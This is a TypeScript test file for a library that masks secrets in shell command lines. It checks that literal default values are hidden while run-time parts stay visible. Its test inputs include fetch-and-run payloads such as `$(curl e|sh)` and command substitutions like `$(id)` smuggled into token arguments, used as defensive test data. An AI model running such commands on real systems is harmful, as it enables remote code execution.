// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectFilledBack,
  exportedArgs,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix178: leaks fix177 reproduced and left.
// 1. A pasted default's word mixing literal text and run-time parts that holds a quote or a
//    backslash (`-e DB_PASSWORD=${V:-Q9`id`\"}`, `--token ${V:-"Q9"$(id)}`) was read at run time
//    whole: `Q9` kept in clear in both views. Its quotes are read as bash reads them there, each
//    literal stretch hidden (the quotes kept where they stand), each run-time part kept in sight.

/** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");

/** How often `text` writes the payload `curl e|sh`. */
const payloadsIn = (text: string) => text.split("curl e|sh").length - 1;

describe("a pasted default's word holding a quote or a backslash", () => {
  it.each([
    [
      'srv -e DB_PASSWORD=${V:-Q9`id`\\"}',
      "srv -e DB_PASSWORD=${V:-•`id`•}",
      "srv -e DB_PASSWORD=${V:-${DB_PASSWORD}`id`${DB_PASSWORD_2}}",
    ],
    ['srv --token ${V:-"Q9"$(id)}', 'srv --token ${V:-"•"$(id)}', 'srv --token ${V:-"${TOKEN}"$(id)}'],
    ['srv --token "${V:-"Q9"$(id)}"', 'srv --token "${V:-"•"$(id)}"', 'srv --token "${V:-"${TOKEN}"$(id)}"'],
    ["srv --token ${V:-'Q9'$(id)}", "srv --token ${V:-'•'$(id)}", "srv --token ${V:-'${TOKEN}'$(id)}"],
    [
      'srv --token ${V:-"Q9 $(curl e|sh) x"}',
      'srv --token ${V:-"•$(curl e|sh)•"}',
      'srv --token ${V:-"${TOKEN}$(curl e|sh)${TOKEN_2}"}',
    ],
  ])("%s: its literal stretches hidden, its run-time parts in sight", (line, shown, exported) => {
    expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
    expect(exportedCommand(line)).toBe(exported);
    expectFilledBack(line);
  });

  it("given as an argument, hidden as before", () => {
    expect(withoutArgSecrets(["--token", '${V:-"Q9"$(id)}'], () => "•")).toEqual(["--token", "${V:-•$(id)}"]);
    expect(exportedArgs(["--token", '${V:-"Q9"$(id)}'])).toEqual(["--token", "${V:-${TOKEN}$(id)}"]);
  });

  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom(
            '"',
            "'J'",
            '"Q',
            '\\"',
            "\\\\",
            "\\J",
            " ",
            "${X}",
            "$X/",
            "$(curl e|sh)",
            "`curl e|sh`",
          ),
        ),
        { minLength: 2, maxLength: 6 },
      )
      .map((parts) => parts.join(""))
      // Each `"` closed, the word holding a quote or a backslash, literal text and a run-time part.
      .filter(
        (text) =>
          (text.replace(/\\./g, "").match(/"/g) ?? []).length % 2 === 0 &&
          /[JQ]/.test(text) &&
          /['"\\]/.test(text) &&
          /[$`]/.test(text),
      );
    fc.assert(
      fc.property(word, fc.constantFrom("--token ", "-e DB_PASSWORD="), (w, lead) => {
        const line = `srv ${lead}\${V:-${w}}`;
        const exported = exportedCommand(line) ?? line;
        expect(outsideReferences(exported)).not.toMatch(/[JQ]/);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expectFilledBack(line);
        expectArgFilledBack([line]);
      }),
      { numRuns: 300 },
    );
  });
});
